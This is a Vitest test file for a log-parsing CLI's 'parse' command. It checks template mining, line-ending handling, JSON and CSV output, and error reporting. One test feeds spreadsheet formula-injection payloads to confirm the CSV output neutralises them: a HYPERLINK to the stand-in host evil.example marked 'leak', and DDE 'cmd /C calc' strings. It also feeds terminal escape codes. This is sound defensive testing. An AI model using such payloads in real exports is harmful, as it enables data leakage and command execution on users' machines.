import { spawnSync } from "node:child_process";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { describe, expect, it } from "vitest";
import { csvRows } from "../../src/parsers/csv.js";
import { testScript } from "../helpers/cli.js";
import { rawControls } from "../helpers/terminal.js";

/** The fixture's build when this run made one (`testScript`): through tsx each run compiled every module. */
const ENTRY = testScript(new URL("./fixtures/parse-cli-entry.ts", import.meta.url));

function run(args: string[], input?: string) {
  return spawnSync(process.execPath, [...ENTRY, "parse", ...args], {
    encoding: "utf8",
    input,
    cwd: fileURLToPath(new URL("../..", import.meta.url)),
  });
}

describe("logwarden parse", () => {
  it("prints LineId,EventId,EventTemplate with final templates, headers stripped, CRLF handled", () => {
    const dir = mkdtempSync(join(tmpdir(), "lw-parse-"));
    const file = join(dir, "x.log");
    writeFileSync(
      file,
      [
        "081109 203615 148 INFO dfs.DataNode$PacketResponder: PacketResponder 1 for block blk_1 terminating",
        "081109 203807 222 INFO dfs.DataNode$PacketResponder: PacketResponder 0 for block blk_-2 terminating",
        '081109 203807 222 INFO dfs.X: quoted "value", with comma 7',
      ].join("\r\n"),
    );
    const r = run([file]);
    expect(r.status, r.stderr).toBe(0);
    const lines = r.stdout.trimEnd().split("\n");
    expect(lines[0]).toBe("LineId,EventId,EventTemplate");
    expect(lines).toHaveLength(4);
    const [, id1, t1] = lines[1]!.split(",");
    const [, id2] = lines[2]!.split(",");
    expect(t1).toBe("PacketResponder <*> for block blk_<*> terminating");
    expect(id1).toBe(id2);
    expect(id1).toMatch(/^[0-9a-f]{16}$/);
    expect(lines[3]).toMatch(/^3,[0-9a-f]{16},"quoted ""value"", with comma <\*>"$/);
  });

  it("reads stdin with --content-only and prints json", () => {
    const r = run(["-", "--content-only", "--format", "json"], "INFO 1 two\nINFO 2 two\n");
    expect(r.status, r.stderr).toBe(0);
    const rows = JSON.parse(r.stdout) as { lineId: number; eventId: string; template: string }[];
    expect(rows.map((x) => x.template)).toEqual(["INFO <*> two", "INFO <*> two"]);
    expect(rows[1]!.lineId).toBe(2);
  });

  it("splits lines at LF, CRLF and a lone CR, raw or content-only, with no row after a final break", () => {
    const input =
      "Jun 14 15:16:01 combo sshd[1]: opened 1\rJun 14 15:16:02 combo sshd[2]: opened 2\r\n\nlast 3\n";
    for (const args of [["-"], ["-", "--content-only"]]) {
      const r = run([...args, "--format", "json"], input);
      expect(r.status, r.stderr).toBe(0);
      const rows = JSON.parse(r.stdout) as { lineId: number; template: string }[];
      expect(rows.map((x) => x.lineId)).toEqual([1, 2, 3, 4]);
      expect(rows[2]!.template).toBe("");
    }
  });

  it("writes no live formula cell and no raw control character into the CSV; json keeps templates exactly", () => {
    const lines = [
      '=HYPERLINK("http://evil.example/?leak","click")',
      "=cmd|' /C calc'!A",
      "@SUM(A:A)*cmd|' /C calc'!A",
      "+cmd|' /C calc'!A",
      "-cmd|' /C calc'!A",
      "plain line with = inside",
      "bell \u0007 and \u001b]0;title\u0007 here",
    ];
    const input = `${lines.join("\n")}\n`;
    const json = run(["-", "--content-only", "--format", "json"], input);
    expect(json.status, json.stderr).toBe(0);
    const mined = (JSON.parse(json.stdout) as { template: string }[]).map((m) => m.template);
    // json: the templates exactly as mined (the link's address masked, control characters kept).
    expect(mined).toEqual([
      '=HYPERLINK("http://<*>")',
      ...lines.slice(1, 6),
      "bell \u0007 and \u001b]<*>;title\u0007 here",
    ]);

    const csv = run(["-", "--content-only"], input);
    expect(csv.status, csv.stderr).toBe(0);
    expect(rawControls(csv.stdout)).toEqual([]);
    const cells = csvRows(csv.stdout)
      .slice(1)
      .map((r) => r[2]!);
    expect(cells).toEqual([
      ...mined.slice(0, 5).map((t) => `'${t}`),
      "plain line with = inside",
      "bell \\x07 and \\x1b]<*>;title\\x07 here",
    ]);
    // A cell with a quote is quoted as RFC 4180 says, the neutralising quote inside.
    expect(csv.stdout.split("\n")[1]).toMatch(/^1,[0-9a-f]{16},"'=HYPERLINK\(""http:\/\/<\*>""\)"$/);
  });

  it("fails with one line on stderr and exit code 1 for an unreadable path", () => {
    const r = run(["/definitely/not/here.log"]);
    expect(r.status).toBe(1);
    expect(r.stdout).toBe("");
    expect(r.stderr.trim().split("\n")).toHaveLength(1);
    expect(r.stderr).toMatch(/cannot read/);
  });
});
